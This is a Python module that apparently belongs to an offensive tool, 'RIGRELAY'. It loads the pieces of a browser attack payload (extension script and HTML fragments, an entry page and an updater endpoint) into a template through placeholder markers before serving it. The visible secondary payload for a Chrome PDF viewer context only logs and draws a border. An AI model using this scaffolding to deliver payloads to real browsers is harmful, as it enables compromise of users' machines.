"""
RIGRELAY - Content Store

The four text blobs the payload is built from, plus the endpoint. Loaded
once before the server listens and shared read-only by every connection.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Optional

from rigrelay.errors import ContentLoadError
from rigrelay.utils.logger import logger

# Marker tokens inside the template script
MARKER_EXT_JS = "%%PLACEHOLDER_EXT_JS_B64%%"
MARKER_EXT_HTML = "%%PLACEHOLDER_EXT_HTML_B64%%"
MARKER_HTML_ENTRY = "%%PLACEHOLDER_HTML_ENTRY_B64%%"
MARKER_CHROME_PAYLOAD = "%%PLACEHOLDER_CHROME_PAYLOAD_B64%%"
MARKER_ENDPOINT = "%%updaterurl%%"

ALL_MARKERS = (
    MARKER_EXT_JS,
    MARKER_EXT_HTML,
    MARKER_HTML_ENTRY,
    MARKER_CHROME_PAYLOAD,
    MARKER_ENDPOINT,
)

# Script run in the secondary (PDF viewer) context
DEFAULT_SECONDARY_PAYLOAD = """
        console.log('Chrome Payload Executed in:', window.location.href);
        try {
            document.body.style.border = '5px solid lime';
            console.log('%cChrome Payload Successfully Executed!', 'color: lime; font-weight: bold;');
        } catch(e){
            console.error('Error executing chrome payload logic:', e);
        }"""


@dataclass(frozen=True)
class ContentPaths:
    """Locations of the mandatory blobs, relative to the content root."""
    template: str = "payload.mjs"
    fragment_a: str = "payloads/index.js"
    fragment_b: str = "payloads/index.html"
    fragment_c: str = "entry/entry.html"

    def items(self) -> list[tuple[str, str]]:
        return [
            ("template_script", self.template),
            ("fragment_a", self.fragment_a),
            ("fragment_b", self.fragment_b),
            ("fragment_c", self.fragment_c),
        ]


def _read_blob(path: Path) -> str:
    try:
        text = path.read_text(encoding="utf-8")
    except FileNotFoundError:
        raise ContentLoadError(path, "file not found") from None
    except (OSError, UnicodeDecodeError) as e:
        raise ContentLoadError(path, str(e)) from e

    if not text:
        raise ContentLoadError(path, "file is empty")
    return text


@dataclass(frozen=True)
class ContentStore:
    """Immutable payload ingredients."""
    template_script: str
    fragment_a: str
    fragment_b: str
    fragment_c: str
    endpoint: str
    secondary_payload: str = DEFAULT_SECONDARY_PAYLOAD

    def __post_init__(self):
        for name in ("template_script", "fragment_a", "fragment_b", "fragment_c",
                     "endpoint", "secondary_payload"):
            if not getattr(self, name):
                raise ValueError(f"ContentStore.{name} must be non-empty")

    @classmethod
    def load(
        cls,
        root: Path,
        endpoint: str,
        paths: Optional[ContentPaths] = None,
        secondary_payload: str = DEFAULT_SECONDARY_PAYLOAD,
    ) -> "ContentStore":
        """
        Read every mandatory blob under ``root``.

        Raises:
            ContentLoadError: naming the first file that is missing,
                unreadable or empty.
        """
        paths = paths or ContentPaths()
        root = Path(root)

        blobs = {name: _read_blob(root / rel) for name, rel in paths.items()}
        store = cls(endpoint=endpoint, secondary_payload=secondary_payload, **blobs)

        missing = store.missing_markers()
        if missing:
            logger.warning(
                f"Template {root / paths.template} has no occurrence of: {', '.join(missing)}"
            )

        logger.info("Payload files loaded successfully.")
        return store

    def missing_markers(self) -> list[str]:
        """Markers that never occur in the template."""
        return [m for m in ALL_MARKERS if m not in self.template_script]
